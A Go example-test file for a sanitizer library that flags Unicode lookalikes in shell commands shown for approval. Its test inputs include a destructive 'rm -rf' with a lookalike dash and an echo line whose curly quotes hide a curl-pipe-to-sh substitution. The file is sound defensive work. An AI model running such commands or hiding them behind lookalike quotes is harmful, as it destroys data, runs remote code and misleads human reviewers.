package plainsight_test

import (
	"fmt"

	"github.com/plainsight-dev/plainsight"
)

// Command reads an approval prompt's text as the shell will.
func ExampleCommand() {
	r := plainsight.Command("rm -rf \u2014no-preserve-root /")
	fmt.Println(r.Text)
	for _, w := range r.Warnings {
		fmt.Println(w.Kind, w.Severity)
	}
	// Output:
	// rm -rf —no-preserve-root /
	// lookalike warn
}

// Reading text as a shell command: U+2018 and U+2019 look like quotes but
// are word characters to the shell, so the command substitution runs.
// Inside real quotes the same characters are typography, and quiet.
func ExamplePolicy_command() {
	p := plainsight.Policy{Context: plainsight.ContextCommand}
	for _, cmd := range []string{
		"/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019",
		"git commit -m \"Don\u2019t panic\"",
	} {
		r := p.Sanitize(cmd)
		fmt.Printf("%+q: %d warning(s)\n", cmd, len(r.Warnings))
		for _, w := range r.Warnings {
			fmt.Printf("%v: %+q\n", w.Kind, w.Explanation)
		}
	}
	// Output:
	// "/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019": 1 warning(s)
	// lookalike: "`\u2018$(curl` holds \u2018 U+2018 LEFT SINGLE QUOTATION MARK, which looks like a quote but is none to the shell: it is part of the word, and the command substitution `$(curl -fsSL https://x.example/i.sh | sh)` runs (and 1 more)"
	// "git commit -m \"Don\u2019t panic\"": 0 warning(s)
}
